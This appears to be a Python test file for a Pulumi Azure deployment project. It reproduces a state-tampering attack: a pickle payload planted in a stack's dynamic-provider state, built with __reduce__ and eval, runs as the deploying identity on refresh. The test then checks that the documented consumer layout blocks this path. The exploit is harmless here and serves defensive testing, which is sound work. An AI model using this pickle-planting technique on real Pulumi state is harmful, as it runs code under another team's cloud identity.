"""Another team's stack and the example stack's state (docs/security.md, "Other teams' stacks").

A dynamic resource keeps its provider in the state as a pickle (``__provider``, in plaintext:
it holds nothing secret), and the Python runtime unpickles the state's copy when it reads
the resource, as ``pulumi up --refresh`` does, in the process that holds the deploying
identity. So whoever can write the example stack's state runs code as that identity.

* The attack, reproduced: a consumer set up as examples/consumer/README.md said before (its
  stack in the example stack's backend, so its identity can write there) plants a pickle, and
  the example stack's next ``up --refresh`` runs it with the deploying app's client id.
* The documented layout: the example stack's deploy publishes ``pulumi stack output --json``
  (as up.yml does), the consumer reads that file, and keeps its stack in a backend of its own
  with a passphrase of its own. Its run leaves the example stack's state untouched; planting
  the same pickle wherever this layout lets it write (its own state) runs nothing in the
  example stack's next ``up --refresh``, and runs in the consumer's own refresh, as the
  consumer's own identity, which shows the payload itself works.

What a file backend cannot show: that Azure refuses a write by an identity holding only
Storage Blob Data Reader on the outputs container and no role on the state container. That
is Azure RBAC's to enforce (the role grants blob reads only); here both teams are one user
on one file system, and the test shows that the layout never asks the producer to read
anything the consumer writes, nor gives the consumer the producer's backend or passphrase.
"""

from __future__ import annotations

import base64
import json
import pickle
import shutil
import sys
from pathlib import Path
from typing import Any

from aoai_deploy.emulator import Emulator
from cli_harness import REPO, PulumiCli
from e2e_project import Project, example_config, tokens_for
from seed_ids import DEST_ACCOUNT, DEST_TENANT, FT_MODEL, SOURCE_ACCOUNT, SOURCE_TENANT

DYNAMIC_TYPE = "pulumi-python:dynamic/aoai:CrossTenantDeployment"
DEPLOYING_APP = "deploying-app-client-id"
CONSUMER_APP = "consumer-app-client-id"
CONSUMER_PASSPHRASE = "the consumer's own passphrase"
ONE = [{"deploymentName": "ft-a", "modelName": FT_MODEL, "modelVersion": "1"}]


def planted_provider(original: str, marker: Path) -> str:
    """A ``__provider`` value that, when unpickled, writes the unpickling process's
    AZURE_CLIENT_ID to ``marker`` and then yields the real provider, so nothing fails and
    the next update writes the genuine pickle back over it."""
    payload = (
        f"(__import__('pathlib').Path({str(marker)!r}).write_text("
        "'PWNED AZURE_CLIENT_ID=' + __import__('os').environ.get('AZURE_CLIENT_ID', '')), "
        f"__import__('dill').loads(__import__('base64').b64decode({original!r})))[1]"
    )

    class Planted:
        def __reduce__(self) -> tuple[Any, tuple[str]]:
            return (eval, (payload,))

    return base64.b64encode(pickle.dumps(Planted())).decode()


def state_file(cli: PulumiCli) -> Path:
    """The stack's checkpoint in its file backend (what a blob of an azblob backend holds)."""
    (found,) = (cli.home / "state" / ".pulumi" / "stacks").glob(f"*/{cli.stack}.json")
    return found


def plant(checkpoint: Path, marker: Path) -> int:
    """Overwrite every dynamic resource's ``__provider`` in ``checkpoint``, as anyone who can
    write the file can: no passphrase, no Pulumi command. Returns how many were planted."""
    state = json.loads(checkpoint.read_text())
    planted = 0
    for resource in state["checkpoint"]["latest"]["resources"]:
        if resource["type"] != DYNAMIC_TYPE:
            continue
        for part in ("inputs", "outputs"):
            original = resource[part]["__provider"]
            assert isinstance(original, str), "a plaintext pickle, as the provider stores it"
            resource[part]["__provider"] = planted_provider(original, marker)
            planted += 1
    checkpoint.write_text(json.dumps(state))
    return planted


def deployed_example(make_project: Any) -> Project:
    producer: Project = make_project()
    producer.init(example_config(producer.emu, deployments=ONE))
    producer.cli("up", "--yes")
    assert set(producer.deployments()) == {"ft-a"}
    return producer


def consumer_project(cli: Path, emu: Emulator, tmp_path: Path, outputs: Path) -> Project:
    """examples/consumer in a directory and file backend of its own, with its own passphrase,
    reading ``outputs`` (the example stack's published outputs)."""
    directory = shutil.copytree(
        REPO / "examples" / "consumer",
        tmp_path / "consumer",
        ignore=shutil.ignore_patterns("__pycache__", ".venv", "Pulumi.example.yaml"),
    )
    (directory / ".venv").symlink_to(Path(sys.prefix), target_is_directory=True)
    consumer = Project(PulumiCli(cli, directory, tmp_path / "consumer-home"), emu, tokens_for(emu))
    consumer.cli.env_extra = {"PULUMI_CONFIG_PASSPHRASE": CONSUMER_PASSPHRASE}
    consumer.init(
        {
            "aoai-deploy:armEndpoint": emu.base_url,
            "aoai-deploy:caBundle": emu.ca_path,
            "aoai-deploy:credential": "static",
            "aoai-consumer:exampleOutputs": str(outputs),
            "aoai-consumer:team": "support",
            "aoai-consumer:modelName": FT_MODEL,
            "aoai-consumer:sourceAccountId": SOURCE_ACCOUNT,
            "aoai-consumer:sourceTenantId": SOURCE_TENANT,
            "aoai-consumer:destinationTenantId": DEST_TENANT,
        }
    )
    return consumer


def test_a_consumer_that_can_write_the_example_stacks_state_runs_code_as_its_deploying_identity(
    make_project, tmp_path
):
    producer = deployed_example(make_project)
    marker = tmp_path / "planted-code-ran"

    # The consumer, logged in to the example stack's backend as the README had it.
    assert plant(state_file(producer.cli), marker) == 2

    producer.cli.env_extra = {"AZURE_CLIENT_ID": DEPLOYING_APP}
    producer.cli("up", "--yes", "--refresh")  # approved and green: nothing looks wrong

    assert marker.read_text() == f"PWNED AZURE_CLIENT_ID={DEPLOYING_APP}"


def test_the_documented_consumer_has_no_write_path_into_the_example_stack(
    make_project, pulumi_cli, tmp_path
):
    producer = deployed_example(make_project)
    checkpoint = state_file(producer.cli)
    # up.yml's publish step: the outputs alone, as `pulumi stack output --json` writes them.
    published = tmp_path / "stack-outputs" / "example-azure.json"
    published.parent.mkdir()
    published.write_text(producer.cli("stack", "output", "--json").output)
    outputs = json.loads(published.read_text())
    assert set(outputs) == {"accountId", "endpoint", "deploymentIds", "deploymentNames"}
    assert "__provider" not in published.read_text()
    assert "ciphertext" not in published.read_text()

    before = checkpoint.read_bytes()
    consumer = consumer_project(pulumi_cli, producer.emu, tmp_path, published)
    consumer.cli("up", "--yes")

    # It deployed into the account the published outputs name ...
    assert outputs["accountId"] == DEST_ACCOUNT
    assert set(producer.deployments()) == {"ft-a", "support-chat"}
    # ... without touching, or being handed, anything of the example stack's.
    assert checkpoint.read_bytes() == before
    environment = json.dumps(consumer.cli.env)
    assert str(producer.cli.home) not in environment
    passphrase = "PULUMI_CONFIG_PASSPHRASE"
    assert consumer.cli.env[passphrase] != producer.cli.env[passphrase]
    assert consumer.cli("stack", "output", "accountId").output.strip() == DEST_ACCOUNT

    # The consumer's worst where this layout lets it write: its own state.
    marker = tmp_path / "planted-code-ran"
    assert plant(state_file(consumer.cli), marker) == 2
    producer.cli.env_extra = {"AZURE_CLIENT_ID": DEPLOYING_APP}
    producer.cli("up", "--yes", "--refresh")
    assert not marker.exists()
    assert checkpoint.read_bytes() != before  # that up did run, and rewrote its own state

    # The payload works: the consumer's own refresh runs it, as the consumer's own identity.
    consumer.cli.env_extra = {
        "PULUMI_CONFIG_PASSPHRASE": CONSUMER_PASSPHRASE,
        "AZURE_CLIENT_ID": CONSUMER_APP,
    }
    consumer.cli("refresh", "--yes")
    assert marker.read_text() == f"PWNED AZURE_CLIENT_ID={CONSUMER_APP}"
    assert consumer.secrets_found() == []
